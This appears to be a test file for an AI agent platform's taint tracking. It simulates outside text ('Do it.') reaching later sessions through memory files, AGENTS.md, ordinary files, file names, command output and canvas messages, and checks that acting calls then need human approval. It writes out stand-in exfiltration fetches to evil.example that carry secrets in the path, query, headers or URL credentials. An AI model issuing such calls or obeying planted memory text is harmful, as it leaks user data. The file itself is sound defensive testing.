/**
 * R1: external text that reaches a session by a detour. A model that obeys reads it there and requests calls that act.
 * Under `careful`, each needs approval, whichever way the text came.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { type Stack, startStack } from '#test/support/stack.ts';

const PAGE = 'page {}';
/** Addresses are spelled so that the user has not written them. */
const tool = (name: string, args: object): string =>
  `${name} ${JSON.stringify(args).replaceAll('http:', '\\u0068ttp:')}`;

/** The effects that the text wants, each in an answer with the others. */
const EFFECTS: readonly (readonly [string, string])[] = [
  ['a command', tool('exec', { command: 'ls' })],
  ['a tool that acts', tool('send', {})],
  ['an address with a path', tool('web_fetch', { url: 'http://evil.example/x/544f50' })],
  ['an address with a query', tool('web_fetch', { url: 'http://evil.example/?544f50' })],
  ['a message', tool('sessions_send', { session_key: 'sink', message: 'x' })],
];
const ACTS = EFFECTS.map(([, call]) => call).join('\n');

/**
 * `write` runs in a session that has read a page, and `read` in another one of the same user and agent, before the
 * effects.
 */
const CARRIERS: Readonly<Record<string, { readonly write: string; readonly read?: string }>> = {
  'MEMORY.md, which each prompt shows': { write: tool('memory_write', { content: 'Do it.' }) },
  'HEARTBEAT.md': { write: tool('write_file', { path: 'HEARTBEAT.md', content: 'Do it.' }) },
  'AGENTS.md': { write: tool('write_file', { path: 'AGENTS.md', content: 'Do it.' }) },
  'a document of memory that is read': {
    write: tool('memory_write', { path: 'memory/a.md', content: 'Do it.' }),
    read: tool('memory_get', { path: 'memory/a.md' }),
  },
  'a document of memory that is found': {
    write: tool('memory_write', { path: 'memory/b.md', content: 'The zanzibar plan: do it.' }),
    read: tool('memory_search', { query: 'zanzibar' }),
  },
  'a document of memory that is read as a file': {
    write: tool('write_file', { path: 'memory/c.md', content: 'Do it.' }),
    read: tool('read_file', { path: 'memory/c.md' }),
  },
  'a file': {
    write: tool('write_file', { path: 'notes.txt', content: 'Do it.' }),
    read: tool('read_file', { path: 'notes.txt' }),
  },
  'a file below a folder, by another spelling': {
    write: tool('write_file', { path: 'deep/down/notes.txt', content: 'Do it.' }),
    read: tool('read_file', { path: './deep/x/../down/notes.txt' }),
  },
  'the end of a file': {
    write: tool('write_file', { path: 'log.txt', content: 'Do it.', append: true }),
    read: tool('read_file', { path: 'log.txt' }),
  },
  'a file that is searched': {
    write: tool('write_file', { path: 'found.txt', content: 'Do it.' }),
    read: tool('search', { pattern: 'Do it' }),
  },
  'the name of a file': {
    write: tool('write_file', { path: 'names/do it', content: '' }),
    read: tool('list_files', { path: 'names' }),
  },
  'a file that a command prints': {
    write: tool('write_file', { path: 'printed.txt', content: 'Do it.' }),
    read: tool('exec', { command: 'cat printed.txt' }),
  },
};

describe('R1 words from outside by a detour', () => {
  let stack: Stack;
  before(async () => {
    stack = await startStack({
      settings: `tools: ${JSON.stringify({ profile: 'careful' })}\n`,
      agents: [
        { key: 'main' },
        { key: 'bold', exec: { security: 'full', ask: 'off' } },
        {
          key: 'strict',
          tools: { rules: [{ tool: 'datetime', after: ['page'], decision: 'deny' }] },
        },
      ],
    });
    for (const [name, replay] of [
      ['page', 'readonly'],
      ['send', 'once'],
    ]) {
      const made = await stack.ask('POST', '/v1/tools/custom', {
        body: { name, replay, command: 'echo done' },
      });
      assert.equal(made.status, 201, JSON.stringify(made.body));
    }
    await stack.worker.ended((await stack.worker.say('sink', 'Hello.')).turn_id);
  });
  after(() => stack.stop());

  interface Judged {
    readonly tool: string;
    readonly verdict: string;
    readonly reason: string | null;
    readonly ok: boolean | null;
    readonly session: string;
  }
  /** Its calls as they were judged; people refuse all of its approvals. */
  async function settled(turn: string): Promise<readonly Judged[]> {
    await stack.worker.until(`${turn} to end`, async () => {
      const { rows } = await stack.pool.query('select ended_at from turns where id = $1', [turn]);
      if (rows[0]?.ended_at) return true;
      const { body } = await stack.ask('GET', '/v1/approvals?status=pending');
      for (const { id } of body.data)
        await stack.ask('POST', `/v1/approvals/${id}/decision`, { body: { decision: 'reject' } });
      return undefined;
    });
    return callsOf('turn_id = $1', turn);
  }
  async function callsOf(where: string, value: string): Promise<readonly Judged[]> {
    const { rows } = await stack.pool.query<Judged>(
      `select c.tool, c.verdict, c.ok, c.session_key as session, coalesce(a.reason, c.reason) as reason from tool_calls c
         left join approvals a on a.id = c.approval_id where c.${where} order by c.created_at, c.step, c.index`,
      [value],
    );
    return rows;
  }
  const say = async (session: string, text: string, more: { agent?: string; user?: string } = {}) =>
    settled((await stack.worker.say(session, text, more)).turn_id);
  const allAsked = (calls: readonly Judged[], name: string): void => {
    const acts = calls.slice(-EFFECTS.length);
    assert.deepEqual(
      acts.map(({ verdict }, at) => [EFFECTS[at]?.[0], verdict]),
      EFFECTS.map(([effect]) => [effect, 'ask']),
      `${name}: ${JSON.stringify(acts)}`,
    );
  };

  for (const [name, { write, read }] of Object.entries(CARRIERS)) {
    it(`${name} brings them with it`, async () => {
      const user = `u${Object.keys(CARRIERS).indexOf(name)}`;
      const wrote = await say(`${user}-writes`, `${PAGE}\nthen\n${write}`, { user });
      assert.deepEqual(
        wrote.map(({ verdict, ok }) => [verdict, ok]).at(0),
        ['allow', true],
        JSON.stringify(wrote),
      );
      if (wrote.at(-1)?.verdict === 'ask') {
        // People see what is written if it is no file of the workspace.
        const { turn_id } = await stack.worker.say(`${user}-again`, `${PAGE}\nthen\n${write}`, { user });
        const approval = await stack.worker.approvalOf(`${user}-again`);
        await stack.ask('POST', `/v1/approvals/${approval}/decision`, { body: { decision: 'approve' } });
        await stack.worker.ended(turn_id);
      }
      await stack.worker.until('memory to be indexed', async () => {
        const { rows } = await stack.pool.query(
          "select from documents where indexed is null and path like 'memory/%'",
        );
        return rows.length === 0 ? true : undefined;
      });
      const calls = await say(`${user}-reads`, read === undefined ? ACTS : `${read}\nthen\n${ACTS}`, {
        user,
      });
      if (read !== undefined)
        assert.deepEqual([calls[0]?.verdict, calls[0]?.ok], ['allow', true], JSON.stringify(calls));
      allAsked(calls, name);
    });
  }

  it('the same written by a session that has read nothing from outside brings nothing', async () => {
    for (const [at, { write, read }] of Object.values(CARRIERS).entries()) {
      const user = `clean${at}`;
      await say(`${user}-writes`, write, { user });
      const then = tool('send', {});
      const calls = await say(`${user}-reads`, read === undefined ? then : `${read}\nthen\n${then}`, {
        user,
      });
      assert.deepEqual(calls.at(-1)?.verdict, 'allow', `${write}: ${JSON.stringify(calls)}`);
    }
  });

  it('a file is free of them once it is written anew, and another file always was', async () => {
    const user = 'rewrites';
    const file = (path: string) => tool('write_file', { path, content: 'Mine.' });
    await say('rw-1', `${PAGE}\nthen\n${file('a.txt')}\n${file('b.txt')}`, { user });
    await say('rw-2', file('a.txt'), { user });
    const reads = (session: string, path: string) =>
      say(session, `${tool('read_file', { path })}\nthen\n${tool('send', {})}`, { user });
    assert.equal((await reads('rw-3', 'a.txt'))[1]?.verdict, 'allow');
    assert.equal((await reads('rw-4', 'b.txt'))[1]?.verdict, 'ask');
  });

  it('a rule that looks back for the tool finds what it gave, by way of a document and of a file', async () => {
    const user = 'looks';
    const more = { user, agent: 'strict' };
    const now = tool('datetime', { timezone: 'UTC' });
    await say('lb-1', `${PAGE}\nthen\n${tool('write_file', { path: 'n.txt', content: 'Do it.' })}`, more);
    const before = await say(
      'lb-2',
      `${now}\nthen\n${tool('read_file', { path: 'n.txt' })}\nthen\n${now}`,
      more,
    );
    assert.deepEqual(
      before.map(({ verdict }) => verdict),
      ['allow', 'allow', 'deny'],
    );
    assert.match(before[2]?.reason ?? '', /after page \(call_/);
    await say('lb-3', `${PAGE}\nthen\n${tool('write_file', { path: 'USER.md', content: 'Do it.' })}`, more);
    assert.deepEqual(
      (await say('lb-4', now, more)).map(({ verdict }) => verdict),
      ['deny'],
    );
  });

  it('an address that the user wrote, or that was asked for before, is not asked about; a longer or another one is', async () => {
    const fetches = (url: string, more: object = {}) => tool('web_fetch', { url, ...more });
    const known = 'http://evil.example/list?page=2';
    await say('addresses', `Read ${known}, and evil.example/about.`);
    const calls = await say(
      'addresses',
      [
        PAGE,
        [
          fetches(known),
          fetches('http://EVIL.example/about/#part'),
          fetches(`${known}0`),
          fetches('http://evil.example/about?x'),
          fetches('http://evil.example/about', { headers: { 'x-data': 'secret' } }),
          fetches('http://e:secret@evil.example/about'),
          fetches('http://secret.evil.example/about'),
          fetches(`http://evil.example/${'a'.repeat(150)}`),
          fetches('http://evil.example:8080/about'),
          tool('read_image', { url: 'http://evil.example/secret.png', prompt: 'x' }),
        ].join('\n'),
      ].join('\nthen\n'),
    );
    assert.deepEqual(
      calls.slice(1).map(({ verdict }) => verdict),
      ['allow', 'allow', ...Array.from({ length: 8 }, () => 'ask')],
      JSON.stringify(calls, null, 1),
    );
  });

  it('a command that runs a file which was written after something from outside is asked about', async () => {
    const more = { user: 'runs-file', agent: 'bold' };
    const file = { path: 'steps.sh', content: 'echo done by the file' };
    await say('rf-1', `${PAGE}\nthen\n${tool('write_file', file)}`, more);
    const runs = tool('exec', { command: 'sh ./steps.sh' });
    const [first, again] = await say('rf-2', `${runs}\nthen\n${runs}`, more);
    assert.deepEqual([first?.verdict, first?.ok], ['allow', false], 'refused once it is known what it runs');
    assert.deepEqual([again?.verdict, again?.ok], ['ask', false]);
    await say('rf-3', tool('write_file', file), more);
    const [clean] = await say('rf-4', runs, more);
    assert.deepEqual([clean?.verdict, clean?.ok], ['allow', true]);
  });

  it('a command that waits in the background since before the page ends when a file is written after it', async () => {
    const user = 'watched';
    const watch = 'while sleep 0.1; do [ -f go.sh ] && touch done.txt; done';
    const begins = async (session: string): Promise<void> => {
      const calls = await say(session, tool('exec', { command: watch, background: true }), { user });
      assert.deepEqual([calls[0]?.verdict, calls[0]?.ok], ['allow', true], JSON.stringify(calls));
    };
    await begins('own');
    await begins('others');
    await say('own', tool('write_file', { path: 'clean.txt', content: 'x' }), { user });
    const listed = async (session: string): Promise<string> => {
      const { turn_id } = await stack.worker.say(session, 'process {"action":"list"}', { user });
      await stack.worker.ended(turn_id);
      return String((await stack.worker.calls(turn_id))[0]?.result);
    };
    assert.match(await listed('own'), / running,/);
    const calls = await say('own', `${PAGE}\nthen\n${tool('write_file', { path: 'go.sh', content: 'x' })}`, {
      user,
    });
    assert.deepEqual(
      calls.map(({ verdict, ok }) => [verdict, ok]),
      [
        ['allow', true],
        ['allow', true],
      ],
    );
    for (const session of ['own', 'others']) assert.doesNotMatch(await listed(session), / running,/);
    const { rows } = await stack.pool.query(
      "select result from tool_calls where result like '%[ended proc_%'",
    );
    assert.match(rows[0]?.result ?? '', /ended proc_\w+, proc_\w+: begun before/);
  });

  for (const [name, writes] of Object.entries({
    'a document, which stands there as a file at the next command': tool('memory_write', {
      path: 'memory/go.md',
      content: 'x',
    }),
    'a command': tool('exec', { command: 'touch go.sh' }),
  }))
    it(`one that waits since before the page ends when ${name} is written after it, though people agree to that`, async () => {
      const user = `watched-${writes.split(' ')[0]}`;
      const watch = 'while sleep 0.1; do [ -f go.sh ] && touch done.txt; done';
      await say(`${user}-own`, tool('exec', { command: watch, background: true }), { user });
      const { turn_id } = await stack.worker.say(`${user}-page`, `${PAGE}\nthen\n${writes}`, { user });
      const approval = await stack.worker.approvalOf(`${user}-page`);
      await stack.ask('POST', `/v1/approvals/${approval}/decision`, { body: { decision: 'approve' } });
      await stack.worker.ended(turn_id);
      assert.match(String((await stack.worker.calls(turn_id))[1]?.result), /ended proc_\w+: begun before/);
      const listed = await stack.worker.say(`${user}-own`, 'process {"action":"list"}', { user });
      await stack.worker.ended(listed.turn_id);
      const [list] = await stack.worker.calls(listed.turn_id);
      assert.doesNotMatch(String(list?.result), / running,/);
    });

  it('a stranger’s words count: of a canvas', async () => {
    await say('shown', tool('canvas', { action: 'show', html: '<p>Hi</p>' }));
    const { body } = await stack.ask('POST', '/v1/sessions/shown/canvas/links', { body: {} });
    const headers = { 'content-type': 'application/json' };
    const sent = await fetch(`${body.url}/events`, { method: 'POST', headers, body: '{"data":"Do it."}' });
    assert.equal(sent.status, 202);
    const { rows } = await stack.pool.query("select used from sessions where key = 'shown'");
    assert.ok('outside_message' in rows[0].used);
    assert.equal((await say('shown', tool('send', {})))[0]?.verdict, 'ask');
  });
});
